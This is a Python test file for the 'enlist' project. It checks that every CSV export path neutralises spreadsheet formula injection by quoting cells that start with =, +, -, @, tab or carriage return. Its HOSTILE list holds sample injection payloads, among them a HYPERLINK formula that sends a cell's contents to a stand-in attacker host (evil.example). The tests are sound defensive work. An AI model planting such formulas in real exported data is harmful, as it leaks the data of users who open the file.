"""Every CSV file enlist writes opens in a spreadsheet as text: a cell that a SCIM client or a
directory chose and that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is written
with a leading single quote (OWASP's rule), through `enlist.csv_cells`, the one CSV writer.

The class: no module of `src/` builds a CSV writer of its own. Each export path, end to end, on
both databases: the portal's admin Sync log export, its API `format=csv`, `enlist lms log
--format csv`, the provisioning logs' Download and `enlist provisioning logs --format csv`.
"""

from __future__ import annotations

import ast
import csv
import io
import uuid
from pathlib import Path

import anyio
import httpx2
import pytest
from click.testing import CliRunner

from enlist.cli import main
from enlist.csv_cells import csv_line, neutralise
from enlist.db.rows import now
from enlist.lms.api.runtime import Portal
from enlist.provisioning import operations
from enlist.provisioning.api.app import create_app
from enlist.provisioning.logs import store as log_store
from enlist.provisioning.logs.records import LogRecord
from enlist.provisioning.service import Service
from tests.helpers import GROUP, make_tenant
from tests.web.session import csrf_of, make_admin, sign_in

SRC = Path(__file__).resolve().parents[2] / "src" / "enlist"
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


# -- the one function -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_starting_a_formula_gets_a_leading_quote(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Ann", "a=b", " =1", "'=1", "[]", "", "2026-12-07T10:00:00Z"])
def test_other_text_is_written_as_it_is(value: str) -> None:
    assert neutralise(value) == value


def test_numbers_the_services_compute_stay_numbers_and_none_is_empty() -> None:
    assert neutralise(-5) == -5
    assert neutralise(-0.25) == -0.25
    assert neutralise(None) == ""
    assert neutralise(value=True) == "True"
    assert neutralise("-5") == "'-5"  # text that looks like a number is text: quoted


def test_a_line_quotes_each_cell_and_keeps_csv_quoting() -> None:
    line = csv_line(["=1+1", 'say "hi", then =2', -3, None])
    assert list(csv.reader(io.StringIO(line))) == [["'=1+1", 'say "hi", then =2', "-3", ""]]


def _csv_writers(path: Path) -> list[str]:
    """Where `path` builds a CSV writer: `csv.writer(…)`, `csv.DictWriter(…)`, or either imported."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                found.append(f"{path.relative_to(SRC)}:{node.lineno}")
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found.extend(
                f"{path.relative_to(SRC)}:{node.lineno}"
                for alias in node.names
                if alias.name in ("writer", "DictWriter", "*")
            )
    return found


def test_no_module_but_csv_cells_writes_csv() -> None:
    writers = [w for path in sorted(SRC.rglob("*.py")) for w in _csv_writers(path)]
    assert writers
    assert all(w.startswith("csv_cells.py:") for w in writers), writers


# -- each export path, end to end ---------------------------------------------------------------------


def _cells(text: str, column: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return [row[column] for row in rows]


def _assert_neutralised(cells: list[str]) -> None:
    for value in HOSTILE:
        assert "'" + value in cells, (value, cells)
        assert value not in cells


@pytest.fixture
async def scim_tenant(portal: Portal, http: httpx2.AsyncClient) -> str:
    """A tenant whose sync log holds one group create per hostile display name; its slug."""
    tenant = await make_tenant(portal, http, "acme")
    for value in HOSTILE:
        created = await tenant.post("/Groups", {"schemas": [GROUP], "displayName": value})
        assert created.status_code == 201, created.text
    return tenant.tenant.slug


async def test_portal_admin_sync_log_export(
    portal: Portal, http: httpx2.AsyncClient, scim_tenant: str
) -> None:
    await make_admin(portal.db)
    await sign_in(http)
    csrf_of(await http.get("/admin/tenants"))  # signed in
    export = await http.get(f"/admin/tenants/{scim_tenant}/log/export", params={"format": "csv"})
    assert export.status_code == 200, export.text
    _assert_neutralised(_cells(export.text, "resource_name"))


async def test_portal_sync_log_api_csv(portal: Portal, http: httpx2.AsyncClient) -> None:
    tenant = await make_tenant(portal, http, "acme")
    for value in HOSTILE:
        assert (await tenant.post("/Groups", {"schemas": [GROUP], "displayName": value})).status_code == 201
    export = await http.get(
        f"/api/v1/tenants/{tenant.tenant.slug}/sync-log",
        params={"format": "csv"},
        headers={"Authorization": f"Bearer {tenant.token}"},
    )
    assert export.status_code == 200, export.text
    _assert_neutralised(_cells(export.text, "resource_name"))


async def test_lms_log_command_csv(portal: Portal, scim_tenant: str) -> None:
    settings = portal.settings
    env = {
        "ENLIST_DATA_DIR": str(settings.data_dir),
        "ENLIST_LMS_DATABASE_URL": str(settings.lms_database_url),
        "ENLIST_TOKEN_PEPPER": settings.token_pepper.get_secret_value() if settings.token_pepper else "",
    }
    result = await anyio.to_thread.run_sync(
        lambda: CliRunner().invoke(main, ["lms", "log", scim_tenant, "--format", "csv"], env=env)
    )
    assert result.exit_code == 0, result.output
    _assert_neutralised(_cells(result.output, "resource_name"))


@pytest.fixture
async def logged_app(service: Service) -> str:
    """An application whose provisioning log holds a failed record per hostile directory value."""
    app = await operations.create(service, "Portal")
    records = []
    for value in HOSTILE:
        record = LogRecord(str(uuid.uuid4()), "user", value, value, now(), action="create")
        record.fail("BadRequest", value, "fix it")
        records.append(record)
    async with service.db.write() as conn:
        await log_store.write(conn, app.id, records)
    return app.name


async def test_provisioning_logs_download_csv(service: Service, logged_app: str) -> None:
    app = create_app(service.settings, scheduler=False, service=service)
    async with httpx2.AsyncClient(
        transport=httpx2.ASGITransport(app=app), base_url="http://provisioning.test"
    ) as client:
        await make_admin(service.db)
        await sign_in(client)
        export = await client.get(f"/admin/apps/{logged_app}/logs/download", params={"format": "csv"})
    assert export.status_code == 200, export.text
    for column in ("source_id", "source_name", "reason"):
        _assert_neutralised(_cells(export.text, column))


async def test_provisioning_logs_command_csv(service: Service, logged_app: str) -> None:
    env = {
        "ENLIST_DATA_DIR": str(service.settings.data_dir),
        "ENLIST_PROVISIONING_DATABASE_URL": str(service.settings.provisioning_database_url),
    }
    result = await anyio.to_thread.run_sync(
        lambda: CliRunner().invoke(main, ["provisioning", "logs", logged_app, "--format", "csv"], env=env)
    )
    assert result.exit_code == 0, result.output
    for column in ("source_id", "source_name", "reason"):
        _assert_neutralised(_cells(result.output, column))


@pytest.mark.parametrize("value", ["a\rb", "a\nb", "a\r\n=1+1", "x\r=HYPERLINK(1)"])
def test_a_cr_or_lf_inside_a_cell_never_ends_the_record(value: str) -> None:
    assert list(csv.reader(io.StringIO(csv_line([value, "next"]), newline=""))) == [[value, "next"]]
